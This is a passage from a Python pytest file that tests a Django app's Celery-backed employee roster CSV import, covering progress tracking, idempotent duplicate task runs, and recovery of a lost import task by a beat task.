    assert roster_import.status == RosterImport.Status.CHECKED, roster_import.error
    assert roster_import.summary["counts"]["create"] == 2500
    assert roster_import.total_rows == roster_import.processed_rows == 2500
    assert not User.objects.filter(employee_code__isnull=False).exists()

    client.post(reverse("accounts_roster_apply", args=[roster_import.pk]))
    roster_import.refresh_from_db()
    assert roster_import.status in (RosterImport.Status.APPLYING, RosterImport.Status.APPLIED)
    page = client.get(reverse("accounts_roster_detail", args=[roster_import.pk])).content.decode()
    if roster_import.status == RosterImport.Status.APPLYING:
        assert 'http-equiv="refresh"' in page
    seen |= wait_for(roster_import, {RosterImport.Status.APPLIED, RosterImport.Status.FAILED})
    assert roster_import.status == RosterImport.Status.APPLIED, roster_import.error
    assert User.objects.filter(employee_code__isnull=False, kind=User.Kind.CIVIL_SERVANT).count() == 2500
    assert roster_import.content is None
    # Progress was written as the worker went (the page read it); the last figure is the total.
    assert roster_import.processed_rows == 2500
    assert all(done <= 2500 for _status, done in seen)

    # Running the tasks again (a duplicate delivery) changes nothing.
    before = snapshot()
    roster_check.delay(roster_import.pk).get(timeout=60)
    roster_apply.delay(roster_import.pk).get(timeout=60)
    assert snapshot() == before


@pytest.mark.worker
@pytest.mark.django_db(transaction=True, serialized_rollback=True)
def test_an_import_whose_task_was_lost_is_finished_by_the_beat_task(celery_worker, settings):
    province = OrganisationUnitFactory(code="TINH-01")
    OrganisationUnitFactory(parent=province, code="XA-001")
    roster_import = check(csv_bytes([person(1), person(2)]))
    # The import was started, but its task never reached the broker.
    RosterImport.objects.filter(pk=roster_import.pk).update(
        status=RosterImport.Status.APPLYING, updated_at=roster_import.uploaded_at - datetime.timedelta(minutes=20)
    )
    result = roster_imports_resume_task.delay().get(timeout=60)
    assert result == {"resumed": [roster_import.pk], "given_up": []}
    wait_for(roster_import, {RosterImport.Status.APPLIED, RosterImport.Status.FAILED})
    assert roster_import.status == RosterImport.Status.APPLIED, roster_import.error
    assert User.objects.filter(employee_code__in=["CB0001", "CB0002"]).count() == 2
